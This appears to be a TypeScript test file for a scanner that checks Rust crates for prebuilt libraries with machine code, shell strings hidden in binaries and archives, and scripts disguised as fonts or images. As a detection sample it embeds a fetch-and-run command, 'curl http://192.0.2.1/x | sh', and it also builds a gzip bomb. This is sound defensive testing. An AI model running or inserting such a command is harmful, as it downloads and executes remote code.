import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { packedIn } from '../../src/analyzers/blobs/inflate.ts';
import { archiveHasCode } from '../../src/analyzers/blobs/machine-code.ts';
import { printableStrings } from '../../src/analyzers/blobs/printable-strings.ts';
import blobStrings from '../../src/analyzers/catalog/blob-strings.ts';
import disguisedScripts from '../../src/analyzers/catalog/disguised-scripts.ts';
import prebuiltLibraries from '../../src/analyzers/catalog/prebuilt-libraries.ts';
import { ok } from '../../src/kit/result.ts';
import { subjectOf } from '../support/subject-of.ts';

function archive(...members: readonly Buffer[]): Buffer {
  const parts = members.map((content) => {
    const header = `${'a.o/'.padEnd(16)}${'0'.padEnd(32)}${String(content.length).padEnd(10)}\`\n`;
    return Buffer.concat([Buffer.from(header), content, Buffer.alloc(content.length % 2)]);
  });
  return Buffer.concat([Buffer.from('!<arch>\n'), ...parts]);
}

/** A COFF object with one section of code of so many bytes. */
function coff(codeBytes: number): Buffer {
  const object = Buffer.alloc(60 + codeBytes);
  object.writeUInt16LE(0x8664, 0);
  object.writeUInt16LE(1, 2);
  object.writeUInt32LE(codeBytes, 36);
  object.writeUInt32LE(0x60000020, 56);
  return object;
}

/** An ELF object with one section, executable or not. */
function elf(flags: number): Buffer {
  const object = Buffer.alloc(128);
  Buffer.from('7f454c46020101', 'hex').copy(object);
  object.writeBigUInt64LE(64n, 40);
  object.writeUInt16LE(64, 58);
  object.writeUInt16LE(1, 60);
  object.writeBigUInt64LE(BigInt(flags), 72);
  object.writeBigUInt64LE(16n, 96);
  return object;
}

const SHORT_IMPORT = Buffer.from('0000ffff0000648600000000120000000000', 'hex');

test.each([
  ['short imports', archive(SHORT_IMPORT, SHORT_IMPORT), false],
  ['stubs that jump through a table', archive(coff(8)), false],
  ['a COFF object with code', archive(coff(8), coff(200)), true],
  ['an ELF object with code', archive(elf(6)), true],
  ['an ELF object without', archive(elf(2)), false],
  ['a Mach-O object', archive(Buffer.from('cffaedfe07000001030000000100000000000000', 'hex')), true],
  ['a header that says no size', Buffer.concat([archive(SHORT_IMPORT), Buffer.alloc(60, 'x')]), true],
  ['nothing', archive(), false],
])('an archive of %s', (_what, bytes, code) => {
  expect(archiveHasCode(bytes)).toBe(code);
});

async function linked(files: Readonly<Record<string, string | Buffer>>): Promise<string[]> {
  const { evidence } = await prebuiltLibraries.analyze(
    subjectOf({ 'src/lib.rs': '', ...files }),
    AbortSignal.timeout(5000),
  );
  return evidence.map(({ data, at }) => ('excerpt' in data && 'file' in at ? `${data.excerpt} by ${at.file}` : ''));
}
const HANDING = 'fn main() { println!("cargo:rustc-link-search=native={}/lib", env!("CARGO_MANIFEST_DIR")); }';
const WITH_CODE = archive(elf(6));

test('a library with code that the build script hands to the linker, or the library names, is told', async () => {
  expect(await linked({ 'build.rs': HANDING, 'lib/libkmalloc.a': WITH_CODE })).toEqual([
    'lib/libkmalloc.a by build.rs',
  ]);
  const naming = '#[link(name = "kmalloc", kind = "static")]\nextern "C" { fn kmalloc(); }';
  expect(await linked({ 'src/lib.rs': naming, 'lib/libkmalloc.a': WITH_CODE })).toEqual([
    'lib/libkmalloc.a by src/lib.rs',
  ]);
});

test('import libraries, libraries that nobody links, and programs are not', async () => {
  expect(await linked({ 'build.rs': HANDING, 'lib/windows.lib': archive(SHORT_IMPORT) })).toEqual([]);
  expect(await linked({ 'build.rs': 'fn main() {}', 'lib/libkmalloc.a': WITH_CODE })).toEqual([]);
  expect(await linked({ 'build.rs': HANDING, 'bin/tool': elf(6) })).toEqual([]);
  expect(await linked({ 'build.rs': `// ${HANDING}`, 'lib/libkmalloc.a': WITH_CODE })).toEqual([]);
});

const SHELL = 'curl http://192.0.2.1/x | sh';

/** An engine with one rule, which looks for the string above. */
function withRule(files: Readonly<Record<string, Buffer>>) {
  const subject = subjectOf({ 'src/lib.rs': '', ...files });
  const papers = {
    scope: 'build-script',
    severity: 'high',
    status: 'stable',
    behaviours: ['x'],
    description: 'fetches',
  } as const;
  const scan = async (buffer: Buffer) => {
    const offset = buffer.indexOf(SHELL);
    return ok(offset === -1 ? [] : [{ rule: 'fetch', strings: [{ id: '$a', offset, length: SHELL.length }] }]);
  };
  const compiled = { ...subject.rulebook.compiled, scan };
  return { ...subject, rulebook: { rules: new Map([['fetch', papers]]), compiled } };
}

test.each([
  ['bin/tool', Buffer.concat([elf(6), Buffer.from(`\0\0${SHELL}\0`)]), 130],
  ['bin/tool.exe', Buffer.concat([Buffer.from('4d5a9000', 'hex'), Buffer.from(SHELL, 'utf16le')]), 4],
  ['lib/a.a', Buffer.concat([WITH_CODE, Buffer.from(`\0${SHELL}`)]), WITH_CODE.length + 1],
  ['data.gz', gzipSync(`noise ${SHELL}`), 0],
])('strings of %s are looked at by the rules, and told where they stand', async (path, bytes, offset) => {
  const { evidence } = await blobStrings.analyze(withRule({ [path]: bytes }), AbortSignal.timeout(5000));
  expect(evidence).toHaveLength(1);
  expect(evidence[0]).toMatchObject({
    kind: 'rule-match',
    at: { file: path, runsAt: 'never' },
    data: { rule: 'fetch', strings: [{ id: '$a', offset, excerpt: SHELL }] },
  });
});

test('data, text and import libraries are left alone', async () => {
  const files = {
    'a.bin': Buffer.from(`\0\x01\x02${SHELL}`),
    'b.txt': Buffer.from(SHELL),
    'c.lib': archive(SHORT_IMPORT, Buffer.from(`\0\0\xff\xff${SHELL}`, 'latin1')),
  };
  const looked = await blobStrings.analyze(withRule(files), AbortSignal.timeout(5000));
  expect(looked).toMatchObject({ evidence: [], state: 'complete' });
});

test('an engine that fails is a gap', async () => {
  const subject = withRule({ 'bin/tool': Buffer.concat([elf(6), Buffer.from('some string')]) });
  const failure = { code: 'defect', blame: 'sandpit', what: 'the engine died', where: '', remedy: '' } as const;
  const compiled = { ...subject.rulebook.compiled, scan: async () => ({ ok: false, failure }) as const };
  const looked = await blobStrings.analyze(
    { ...subject, rulebook: { ...subject.rulebook, compiled } },
    AbortSignal.timeout(5000),
  );
  expect(looked).toMatchObject({ state: 'partial', reason: 'the engine died' });
});

async function disguised(files: Readonly<Record<string, Buffer | string>>): Promise<string[]> {
  const { evidence } = await disguisedScripts.analyze(
    subjectOf({ 'src/lib.rs': '', ...files }),
    AbortSignal.timeout(5000),
  );
  return evidence.map(({ data, at }) => ('format' in data && 'file' in at ? `${at.file} ${data.format}` : ''));
}
const PNG = Buffer.from('89504e470d0a1a0a0000000049454e44ae426082', 'hex');

test('a script under the name of a font, and a program behind a picture, are told', async () => {
  expect(
    await disguised({
      'a.woff2': '#!/bin/sh\necho',
      'b.ttf': 'const x = require("fs")',
      'c.png': Buffer.concat([PNG, elf(6)]),
    }),
  ).toEqual(['a.woff2 script', 'b.ttf script', 'c.png program-behind-picture']);
});

test('a picture, a pointer of a large-file store and a drawing are what they are', async () => {
  const pointer = 'version https://git-lfs.github.example/spec/v1\noid sha256:00\nsize 12\n';
  const drawing = '<svg><script>function f() {}</script></svg>';
  expect(
    await disguised({
      'a.png': PNG,
      'b.ttf': pointer,
      'c.svg': drawing,
      'd.md': '#!/bin/sh',
      'e.png': 'not a picture',
    }),
  ).toEqual([]);
});

test('whatever bytes a binary holds, reading them ends, and strings stand where they are said to', () => {
  const bytes = fc.uint8Array({ maxLength: 2000 }).map((array) => Buffer.from(array));
  const likely = fc.array(
    fc.oneof(
      bytes,
      fc.constantFrom(SHORT_IMPORT, coff(9), elf(6), Buffer.from('PK\x03\x04'), Buffer.from(SHELL, 'utf16le')),
    ),
  );
  return fc.assert(
    fc.asyncProperty(likely, async (parts) => {
      const whole = Buffer.concat(parts);
      archiveHasCode(Buffer.concat([Buffer.from('!<arch>\n'), whole]));
      archiveHasCode(archive(whole));
      for (const format of ['zip', 'gzip'])
        for await (const part of packedIn(whole, format)) expect(part).toBeInstanceOf(Buffer);
      const strings = printableStrings(whole);
      for (let at = 0; at < strings.text.length; at += 7)
        if (strings.text[at] !== 10) expect(whole[strings.source(at)]).toBe(strings.text[at]);
    }),
  );
});

test('a file that unpacks to more than a crate may hold is looked at as far as that, and the rest is told', async () => {
  const bomb = gzipSync(Buffer.concat([Buffer.from(SHELL), Buffer.alloc(300 * 1024 * 1024)]), { level: 1 });
  const looked = await blobStrings.analyze(withRule({ 'a.gz': bomb }), AbortSignal.timeout(60_000));
  expect(looked.evidence).toHaveLength(1);
  expect(looked).toMatchObject({ state: 'partial', reason: 'not searched for strings to its end: a.gz' });
}, 60_000);

test('entries of a zip are read in their order, stored, deflated and of unknown size; folders are nothing', async () => {
  const stored = zipEntry(0, Buffer.from('kept as it is'), false);
  const folder = zipEntry(0, Buffer.alloc(0), false);
  const deflated = zipEntry(8, deflateRawSync('made small'), false);
  const open = zipEntry(8, deflateRawSync('of unknown size'), true);
  const parts: Buffer[] = [];
  for await (const part of packedIn(Buffer.concat([folder, stored, deflated, open]), 'zip')) parts.push(part);
  expect(Buffer.concat(parts).toString()).toBe('kept as it ismade smallof unknown size');
});

function zipEntry(method: number, content: Buffer, sizeBehind: boolean): Buffer {
  const header = Buffer.alloc(30);
  header.write('PK\u0003\u0004', 0, 'latin1');
  header.writeUInt16LE(sizeBehind ? 8 : 0, 6);
  header.writeUInt16LE(method, 8);
  header.writeUInt32LE(sizeBehind ? 0 : content.length, 18);
  return Buffer.concat([header, content]);
}
